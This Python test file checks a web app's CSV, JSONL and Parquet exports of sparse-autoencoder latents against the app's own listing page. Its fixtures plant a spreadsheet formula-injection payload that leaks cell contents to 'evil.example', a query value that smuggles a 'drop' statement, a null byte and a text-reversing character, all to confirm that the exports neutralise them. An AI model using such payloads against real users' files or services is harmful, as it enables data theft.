"""Lists of latents taken away: the same latents as on the page, in three formats that others read rightly."""

from __future__ import annotations

import csv
import io
import json
import sqlite3
import sys
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from fastapi.testclient import TestClient

from app.annotations.queries import Subject
from app.annotations.write import Draft, save
from app.export import latent_table
from app.latents.columns import Order
from app.latents.filters import LatentFilters
from app.main import create_app
from app.runs import queries as runs
from app.saes import queries as saes
from app.settings import Settings
from migrations.runner import upgrade
from store.session import make_engine, session_factory
from tests.app.world import DEAD, HOSTILE, NEGATIVE, POSITIVE, SLUGS, TWIN, WIDTH, build

ALL = f"sae={SLUGS[1]}&dense=any"
FORMULA = '=HYPERLINK("http://evil.example?x="&A1,"look")'
NOTE = 'says "counts",\nthen goes on; 👩‍👩‍👧 \u202eback'


@pytest.fixture(scope="module")
def db(tmp_path_factory: pytest.TempPathFactory) -> str:
    path = build(tmp_path_factory.mktemp("exports") / "world.db")
    with session_factory(make_engine(path))() as session:
        for index, note, author in ((POSITIVE, FORMULA, "+1 Ada"), (NEGATIVE, NOTE, "Grace")):
            save(session, Subject("1" * 64, index), Draft("position", "keep", note), 0, author)
    return path


@pytest.fixture
def client(db: str) -> Iterator[TestClient]:
    application = create_app(Settings(db=db))
    yield TestClient(application, base_url="http://127.0.0.1", raise_server_exceptions=False)
    application.state.engine.dispose()


def cells(client: TestClient, query: str) -> list[dict[str, str]]:
    text = client.get(f"/latents.csv?{query}").content.decode("utf-8")
    return list(csv.DictReader(io.StringIO(text, newline=""), strict=True))


def objects(client: TestClient, query: str) -> list[dict[str, Any]]:
    def refuse(word: str) -> None:
        raise AssertionError(f"{word} is no JSON")

    text = client.get(f"/latents.jsonl?{query}").content.decode("utf-8")
    return [json.loads(line, parse_constant=refuse) for line in text.split("\n")[:-1]]


@pytest.mark.parametrize("sort", ["density", "antipodality", "loss", "index"])
def test_all_latents_of_a_list_come_in_its_order_whatever_the_batch(
    client: TestClient, monkeypatch: pytest.MonkeyPatch, sort: str
) -> None:
    monkeypatch.setattr(latent_table, "BATCH", 7)
    listed = client.get(f"/api/v1/saes/{SLUGS[1]}/latents?sort={sort}&limit=500").json()["items"]
    assert len(listed) == WIDTH
    taken = cells(client, f"{ALL}&sort={sort}&limit=3")
    assert [int(row["index"]) for row in taken] == [item["index"] for item in listed]
    assert [float(row["density"]) for row in taken] == [item["density"] for item in listed]
    assert [row["rule_verdict"] or None for row in taken] == [item["verdict"] for item in listed]
    assert [row["class_position"] or None for row in taken] == [
        item["classes"].get("position", {}).get("label") for item in listed
    ]


def test_no_batch_is_larger_than_asked(db: str, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(latent_table, "BATCH", 7)
    sessions = session_factory(make_engine(db, read_only=True))
    with sessions() as session:
        run = runs.find_run(session)
        assert run
        held = saes.list_saes(session, run)
    batches = latent_table.latent_batches(sessions, held, LatentFilters(), Order("density", True))
    assert [len(rows) for rows in batches] == [7] * 17 + [1]


@pytest.mark.parametrize(
    ("query", "number"), [("", 15), ("dense=any", 120), ("dense=any&category=position", 2), ("note=counts", 1)]
)
def test_filters_are_those_of_the_page(client: TestClient, query: str, number: int) -> None:
    assert len(cells(client, query)) == number
    assert f"of {number}" in " ".join(client.get(f"/latents?{query}").text.split())


def test_csv_is_by_the_book(client: TestClient) -> None:
    answer = client.get(f"/latents.csv?{ALL}")
    assert answer.headers["content-type"] == "text/csv; charset=utf-8; header=present"
    assert answer.headers["content-disposition"] == 'attachment; filename="latents-run2-tiny-l1-resid.csv"'
    assert answer.content.startswith(b"sae,run,url,layer,index,density,")
    assert answer.content.endswith(b"\r\n")
    assert answer.content.count(b"\r\n") == 1 + WIDTH
    taken = {int(row["index"]): row for row in cells(client, ALL)}
    assert taken[NEGATIVE]["note"] == NOTE
    assert json.loads(taken[POSITIVE]["top_tokens"]) == HOSTILE[:3]
    assert (taken[DEAD]["mean"], taken[DEAD]["is_dense"]) == ("", "false")
    assert json.loads(taken[DEAD]["reasons"])["mean"] == "never fired on this text"


def test_no_cell_is_a_formula_and_numbers_stay_numbers(client: TestClient) -> None:
    taken = cells(client, ALL)
    row = next(one for one in taken if int(one["index"]) == POSITIVE)
    assert (row["note"], row["author"]) == (f"'{FORMULA}", "'+1 Ada")
    assert float(row["cos_enc"]) == -0.95
    starts = {cell[0] for one in taken for cell in one.values() if cell and not _is_number(cell)}
    assert not starts & set("=+-@\t\r")


def _is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def test_json_lines_have_nulls_and_lists(client: TestClient) -> None:
    taken = {row["index"]: row for row in objects(client, ALL)}
    assert len(taken) == WIDTH
    assert taken[DEAD]["mean"] is None
    assert taken[POSITIVE]["note"] == FORMULA
    assert taken[POSITIVE]["top_tokens"] == HOSTILE[:3]
    assert taken[POSITIVE]["promoted"] == HOSTILE
    assert taken[TWIN]["category"] is None
    assert {tuple(row) for row in taken.values()} == {tuple(column.name for column in latent_table.COLUMNS)}


def test_parquet_holds_the_same_rows_with_types_and_where_they_come_from(
    client: TestClient, monkeypatch: pytest.MonkeyPatch
) -> None:
    parquet = pytest.importorskip("pyarrow.parquet", reason="pip install '.[parquet]'")
    monkeypatch.setattr(latent_table, "BATCH", 9)
    answer = client.get(f"/latents.parquet?{ALL}")
    table = parquet.read_table(io.BytesIO(answer.content))
    rows, expected = table.to_pylist(), objects(client, ALL)
    for row, other in zip(rows, expected, strict=True):
        assert row | {"annotated": None, "reasons": json.loads(row["reasons"])} == other | {"annotated": None}
    types = {name: str(table.schema.field(name).type) for name in ("density", "index", "is_dense", "annotated", "note")}
    assert types == {
        "density": "double",
        "index": "int64",
        "is_dense": "bool",
        "annotated": "timestamp[us, tz=UTC]",
        "note": "string",
    }
    about = {name.decode(): value.decode() for name, value in table.schema.metadata.items()}
    assert about["dense-latents-run"] == "2"
    assert about["dense-latents-corpus-sha256"] == "c" * 64
    assert about["dense-latents-version"]
    assert {f"x-{name}": value for name, value in about.items()}.items() <= dict(answer.headers).items()


def test_an_empty_list_is_a_head_and_no_rows(client: TestClient) -> None:
    assert client.get("/latents.csv?min_density=1").content.count(b"\r\n") == 1
    assert client.get("/latents.jsonl?min_density=1").content == b""
    parquet = pytest.importorskip("pyarrow.parquet", reason="pip install '.[parquet]'")
    assert parquet.read_table(io.BytesIO(client.get("/latents.parquet?min_density=1").content)).num_rows == 0


def test_without_the_extra_parquet_is_refused_by_its_name(client: TestClient, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setitem(sys.modules, "pyarrow", None)  # as where it is not installed
    answer = client.get("/latents.parquet")
    assert answer.status_code == 501
    assert "dense-latents[parquet]" in answer.text
    assert client.get("/latents.csv").status_code == 200


@pytest.mark.parametrize(
    ("path", "status"),
    [
        ("/latents.xlsx", 404),
        ("/latents.csv?sort=id;drop", 422),
        ("/latents.csv?run=99", 404),
        ("/latents.csv?q=%00", 422),
    ],
)
def test_what_is_not_there_is_refused_before_a_file_begins(client: TestClient, path: str, status: int) -> None:
    answer = client.get(path)
    assert answer.status_code == status
    assert "content-disposition" not in answer.headers


def test_a_store_without_runs_has_nothing_to_take_away(tmp_path: Path) -> None:
    upgrade(str(tmp_path / "empty.db"))
    with TestClient(create_app(Settings(db=str(tmp_path / "empty.db"))), base_url="http://127.0.0.1") as client:
        assert client.get("/latents.csv").status_code == 404


def test_infinities_and_halves_of_letters_become_words_that_files_have(tmp_path: Path) -> None:
    path = build(tmp_path / "odd.db")
    with sqlite3.connect(path) as connection:
        connection.execute('UPDATE latent SET mean = 9e999, top_tokens = ? WHERE "index" = 0', ('["\\ud800x"]',))
    with TestClient(create_app(Settings(db=path)), base_url="http://127.0.0.1") as client:
        row = next(one for one in objects(client, ALL) if one["index"] == 0)
        assert (row["mean"], row["top_tokens"]) == (None, ["?x"])
        assert client.get(f"/latents.csv?{ALL}").status_code == 200
        pytest.importorskip("pyarrow", reason="pip install '.[parquet]'")
        assert client.get(f"/latents.parquet?{ALL}").status_code == 200


def test_the_page_links_to_its_own_rows(client: TestClient) -> None:
    html = client.get(f"/latents?{ALL}&sort=max").text
    for kind in ("csv", "jsonl", "parquet"):
        start = html.index(f'href="/latents.{kind}?') + len('href="')
        address = html[start : html.index('"', start)].replace("&amp;", "&")
        assert client.get(address).status_code == 200
        assert "sort=max" in address
